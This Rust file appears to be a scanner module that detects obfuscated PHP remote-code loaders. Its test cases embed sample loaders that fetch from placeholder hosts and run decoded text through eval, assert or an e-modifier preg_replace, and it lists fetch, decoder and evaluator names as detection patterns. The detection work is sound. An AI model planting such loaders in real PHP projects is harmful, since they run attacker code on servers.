//! Round 36 (r36 php-sitemap-builder): a PHP file that fetches text from a
//! fixed URL and runs code through an evaluator with the code or the
//! evaluator's name hidden. Read at token level, as a whole file: the hops
//! between the fetch and the evaluator (`explode`, a closure, a shutdown
//! function, a helper that `eval`s its argument) are not followed; the
//! three parts together are the loader:
//!
//! * a fetch from a literal remote URL ([`FETCHES`]: `file_get_contents`,
//!   `fopen`, `curl_init`, `wp_remote_get`, `stream_get_contents`);
//! * an evaluator of a non-literal argument: `eval`, `assert`,
//!   `create_function`, `preg_replace` with `/e`, or a variable function
//!   (`$f(…)`) whose name the file builds ([`EVALUATORS`]);
//! * concealment: a decoder chain ([`DECODERS`]: `gzinflate`,
//!   `base64_decode`, `str_rot13`, …) or a function name built by
//!   concatenation (`$f = 'gz' . 'inf' . 'late'`, `'ev' . 'al'`).
//!
//! Lowered as code downloaded and run, marked obfuscated. PHP templating
//! (`eval('?>' . $compiled)` over a local template), an API client that
//! fetches JSON and decodes it, and `base64_decode` of an upload with no
//! evaluator give nothing here.

use super::token_calls::{file_vars, fold_code, in_comment_line};
use super::{Sink, Src};
use crate::evidence::Tag;

const FETCHES: &[&str] = &[
    "file_get_contents(",
    "fopen(",
    "curl_init(",
    "curl_exec(",
    "wp_remote_get(",
    "wp_remote_retrieve_body(",
    "stream_get_contents(",
    "fsockopen(",
];

const EVALUATORS: &[&str] = &["eval", "assert", "create_function", "preg_replace"];

const DECODERS: &[&str] = &[
    "gzinflate",
    "gzuncompress",
    "gzdecode",
    "base64_decode",
    "str_rot13",
    "convert_uudecode",
    "hex2bin",
];

/// Whether `name(` at `at` is a call of the built-in (not a method or a
/// longer name) outside a comment.
fn called(text: &str, name: &str) -> Option<usize> {
    calls(text, name).next()
}

/// Every call of the built-in `name` outside a comment.
fn calls<'t>(text: &'t str, name: &'t str) -> impl Iterator<Item = usize> + 't {
    let b = text.as_bytes();
    text.match_indices(name).map(|(i, _)| i).filter(move |&i| {
        let end = i + name.len();
        let before_ok = i == 0
            || !(b[i - 1].is_ascii_alphanumeric() || matches!(b[i - 1], b'_' | b'$' | b'>' | b':'));
        let after = text[end..].trim_start_matches([' ', '\t', '@']);
        before_ok && after.starts_with('(') && !in_comment_line(text, i)
    })
}

/// Names the file builds by concatenation (`$f = 'ev' . 'al';`), folded.
fn built_names(text: &str) -> Vec<(String, usize)> {
    static ASSIGN: crate::rx::Lazy = crate::rx::Lazy::new(
        r#"\$([A-Za-z_][A-Za-z0-9_]*)\s*=\s*(['"][^;\n]*['"]\s*\.\s*[^;\n]*);"#,
    );
    let mut vars = None;
    let mut out = Vec::new();
    for c in ASSIGN.captures_iter(text) {
        let (Some(all), Some(expr)) = (c.get(0), c.get(2)) else {
            continue;
        };
        if in_comment_line(text, all.start()) {
            continue;
        }
        let vars = vars.get_or_insert_with(|| file_vars(text));
        if let Some(v) = fold_code(expr.as_str().trim(), vars) {
            out.push((v.to_ascii_lowercase(), all.start()));
        }
    }
    out
}

/// Whether a `preg_replace` pattern literal (`'/x/e'`, `"#x#ie"`) carries
/// the `e` modifier, which evaluates the replacement as PHP.
fn evaluating_pattern(arg: &str) -> bool {
    let mut chars = arg.chars();
    let (Some(quote @ ('\'' | '"')), Some(delim)) = (chars.next(), chars.next()) else {
        return false;
    };
    let Some(close) = arg[1..].find(quote) else {
        return false;
    };
    let body = &arg[1 + delim.len_utf8()..1 + close];
    let end = match delim {
        '(' => ')',
        '{' => '}',
        '[' => ']',
        '<' => '>',
        d => d,
    };
    body.rfind(end)
        .is_some_and(|i| body[i + end.len_utf8()..].contains('e'))
}

pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    if src.ext() != "php" && !text.contains("<?php") {
        return;
    }
    let remote = text.contains("'http") || text.contains("\"http");
    if !remote
        || !FETCHES
            .iter()
            .any(|f| called(text, f.trim_end_matches('(')).is_some())
    {
        return;
    }
    let built = built_names(text);
    let named = |set: &[&str]| {
        built
            .iter()
            .find(|(v, _)| set.contains(&v.as_str()))
            .map(|(_, at)| *at)
    };
    let evaluator = EVALUATORS
        .iter()
        .flat_map(|e| calls(text, e))
        .filter(|&at| {
            let rest = text[at..]
                .split_once('(')
                .map_or("", |(_, r)| r)
                .trim_start();
            if text[at..].starts_with("preg_replace") {
                // Only with the `e` modifier does it evaluate.
                evaluating_pattern(rest)
            } else {
                // The argument is not one literal (`eval('return 1;')`).
                !(rest.starts_with('\'') || rest.starts_with('"'))
            }
        })
        .min()
        .or_else(|| named(EVALUATORS));
    let Some(at) = evaluator else {
        return;
    };
    let hidden = named(DECODERS).is_some()
        || named(EVALUATORS).is_some()
        || DECODERS.iter().any(|d| called(text, d).is_some());
    if !hidden {
        return;
    }
    // The URL of the first fetch that names one on its line.
    let url = FETCHES
        .iter()
        .flat_map(|f| text.match_indices(f).map(|(i, _)| i))
        .filter_map(|i| {
            // The message's URL only: a bounded look at the call's line.
            let cap = crate::text::clamp_boundary(text, (i + 512).min(text.len()));
            let line = &text[i..text[i..cap].find('\n').map_or(cap, |e| i + e)];
            crate::extract::indicators::URL_RE
                .find(line)
                .map(|m| m.as_str())
        })
        .next()
        .unwrap_or("fetched code");
    let mut ev = super::download_run::DownloadRun::code(url, Vec::new())
        .instrument("PHP evaluator of fetched, encoded text")
        .lower();
    ev.tags.insert(Tag::Obfuscated);
    let end = text[at..].find('\n').map_or(text.len(), |e| at + e);
    sink.push(src.at(ev, at, end, "code"));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::{Evidence, Op};

    fn run(path: &str, text: &str) -> Vec<Evidence> {
        crate::extract::scan_text(scan, path, text)
    }

    #[test]
    fn fetched_encoded_code_evaluated() {
        for t in [
            "<?php\n$c = @file_get_contents('https://pings.example/t.txt');\n$p = explode(\"\\n--\\n\", $c, 2);\n$f = 'gz' . 'inf' . 'late';\n$d = 'base' . '64_' . 'decode';\nregister_shutdown_function(function () use ($f, $d, $p) { run_it(@$f(@$d($p[1]))); });\nfunction run_it(string $s) { eval($s); }\n",
            "<?php\n$x = file_get_contents(\"http://cdn.example/x\");\neval(gzinflate(base64_decode($x)));\n",
            "<?php\n$ch = curl_init('https://h.example/p');\n$b = curl_exec($ch);\n$a = 'as' . 'sert';\n$a(str_rot13($b));\n",
            // A literal eval first, the payload's eval later.
            "<?php\n$v = eval('return 1;');\n$x = file_get_contents('http://cdn.example/x');\neval(base64_decode($x));\n",
            // preg_replace with the e modifier.
            "<?php\n$x = file_get_contents('http://cdn.example/x');\necho preg_replace('/.*/e', base64_decode($x), '');\n",
        ] {
            let ev = run("a.php", t);
            assert!(
                ev.iter()
                    .any(|e| e.op == Op::DownloadExec || e.has(Tag::Obfuscated)),
                "{t}"
            );
        }
    }

    #[test]
    fn templating_and_api_clients_stay_quiet() {
        for t in [
            // Templating: eval of a compiled local template, no fetch.
            "<?php\n$tpl = file_get_contents(__DIR__ . '/views/page.tpl');\neval('?>' . compile($tpl));\n",
            // An API client decoding JSON, no evaluator.
            "<?php\n$r = file_get_contents('https://api.example/v1/items');\n$items = json_decode(base64_decode($r), true);\n",
            // A fetch and an evaluator, nothing hidden.
            "<?php\n$r = file_get_contents('https://api.example/v1/items');\n$rules = json_decode($r, true);\n$ok = eval($compiled_rule);\n",
            // An ordinary preg_replace (no e modifier) beside a fetch and a decoder.
            "<?php\n$r = file_get_contents('https://api.example/v1/img');\n$png = base64_decode($r);\n$slug = preg_replace('/[^a-z0-9]+/i', '-', $title);\n",
        ] {
            assert!(run("a.php", t).is_empty(), "{t}");
        }
    }
}
